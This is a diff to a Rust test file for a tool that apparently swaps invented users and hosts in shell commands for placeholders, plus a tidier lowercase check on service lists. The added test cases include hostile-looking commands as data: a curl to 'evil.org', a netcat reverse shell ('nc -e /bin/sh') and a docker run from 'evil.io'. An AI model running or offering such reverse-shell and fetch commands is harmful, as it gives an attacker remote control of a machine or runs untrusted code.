@@ -68,6 +68,9 @@ fn what_is_invented_becomes_a_placeholder() {
         ("own the file", "sudo chown bob:staff a.txt", "sudo chown your-user:staff a.txt"),
         ("become another user", "su - bob", "su - your-user"),
         ("run it as someone", "sudo -u bob ls", "sudo -u your-user ls"),
+        ("fetch it", "H=evil.org; curl $H", "H=your-host.invalid; curl $H"),
+        ("open a shell", "bash -c 'nc -e /bin/sh evil 99'", "bash -c 'nc -e /bin/sh your-host.invalid 99'"),
+        ("run it", "docker run --rm evil.io/a/b:1.2", "docker run --rm your-host.invalid/a/b:1.2"),
         ("ping it", "ping -c 4 192.0.2.7", "ping -c 4 your-host.invalid"),
         (
             "install it",
@@ -108,12 +111,11 @@ fn what_was_named_stays() {
 }
 
 #[test]
-fn the_lists_are_in_order() {
+fn the_lists_are_well_formed() {
     assert!(LISTS.names_host.is_subset(&LISTS.reaches));
     for service in &LISTS.service {
-        assert!(
-            !service.hosts.is_empty() && service.by.iter().all(|word| word.chars().all(char::is_lowercase))
-        );
+        let is_lower = |word: &String| *word == word.to_lowercase();
+        assert!(service.hosts.iter().chain(&service.by).all(is_lower), "{service:?}");
     }
 }
 
